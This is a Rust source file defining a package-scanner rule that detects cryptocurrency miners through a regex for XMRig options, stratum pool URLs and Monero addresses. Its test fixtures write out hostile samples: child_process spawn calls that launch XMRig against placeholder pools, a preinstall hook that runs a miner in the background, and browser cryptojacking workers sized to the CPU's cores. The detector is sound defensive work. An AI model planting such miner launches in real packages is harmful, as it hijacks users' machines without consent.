//! Rule `crypto-miner`.

use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path};

crate::declare_rule! {
    /// Cryptocurrency-miner command lines: a `stratum+tcp://` pool, XMRig options
    /// (`--donate-level`, `--cpu-max-threads-hint`, `-o pool:port`, `-u` with a Monero address), an `xmrig` binary.
    /// Flagged (`critical`) when the same file or script starts programs (it runs the miner); a
    /// library that only builds or parses such configuration is not. In the browser: a Monero
    /// address in a file that starts Web Workers sized to `navigator.hardwareConcurrency`.
    id: "crypto-miner",
    category: Other,
    severity: Critical,
    capability: Some(crate::model::Capability::ChildProcess),
    title: "runs a cryptocurrency miner",
    incident: "ua-parser-js 0.7.29 (2021), @rspack/core 1.1.7 (2024), @0xengine/xmlrpc (2024) ran XMRig",
    case_file: "index.js",
    flag: ["require('child_process').spawn('./x', ['-o', 'gulf.monero.example:10128', '-u', '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD', '-k'])",
           "require('child_process').spawn(bin, ['--donate-level', '1', '-o', 'pool.example.net:3333', '-u', w])",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"sh p.sh\"}}\n=== p.sh\nnohup ./jsx -o pool.example:4444 -u 4abc --donate-level=1 -B &",
           "const { execSync } = require('child_process'); execSync(`./xmrig -o stratum+tcp://p.example:3333`)",
           "const W = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD'; for (let i = 0; i < navigator.hardwareConcurrency; i++) { const w = new Worker(u); w.postMessage({ site: W }) }"],
    pass: ["const cfg = { 'donate-level': 1, pools: [{ url: 'stratum+tcp://pool.example:3333' }] }; module.exports = cfg",
           "// this is not xmrig\nrequire('child_process').spawn('git', ['status'])",
           "const DONATE = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD'; export const footer = `Donate XMR: ${DONATE}`",
           "const n = navigator.hardwareConcurrency || 4; const pool = Array.from({ length: n }, () => new Worker(new URL('./resize.js', import.meta.url)))"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let re = crate::regex!(
        r"(?i)stratum\+(tcp|ssl|tls)://|--donate-level|['\x22`]--donate-level|--cpu-max-threads-hint|\bxmrig\b[^\n'\x22`]{0,40}\s-o\s|\s-o\s+['\x22`]?[\w.-]*pool[\w.-]*:\d{2,5}|['\x22`]-o['\x22`]\s*,\s*['\x22`][\w.-]*pool[\w.-]*:\d{2,5}|['\x22`]-u['\x22`]\s*,\s*['\x22`]4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}['\x22`]|\s-u\s+4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b"
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let text = all_text(f);
        if let Some(off) = browser_miner(text) {
            let off = f.text_off(off, 0);
            out.hit(
                pkg,
                f,
                off,
                "mines in the browser: a Monero address handed to workers sized to the CPU's cores",
            );
            continue;
        }
        if !crate::mentions!(
            text,
            [
                "stratum+",
                "donate-level",
                "xmrig",
                "pool",
                "threads-hint",
                "-u"
            ]
        ) {
            continue;
        }
        let Some(m) = re.find(text) else { continue };
        let runs = match &f.js {
            Some(js) => js
                .calls
                .iter()
                .any(|c| crate::rules::exec::is_spawn(&c.path)),
            None => true,
        };
        let off = f.text_off(m.start(), 0);
        if !runs {
            continue;
        }
        let msg = format!("starts a miner with pool options (`{}`)", m.as_str().trim());
        out.hit(pkg, f, off, msg);
    }
}

/// Browser mining (cryptojacking): a Monero-shaped address (95 base58 characters from `4`) written in the code, in a file that starts
/// Web Workers sized to the machine's cores (`navigator.hardwareConcurrency`). A wallet or
/// explorer shows addresses; it does not start a worker per core with one.
fn browser_miner(text: &str) -> Option<usize> {
    if !(text.contains("hardwareConcurrency") && text.contains("new Worker(")) {
        return None;
    }
    crate::regex!(r#"['"`]4[1-9A-HJ-NP-Za-km-z]{94}['"`]"#)
        .find(text)
        .map(|m| m.start())
}
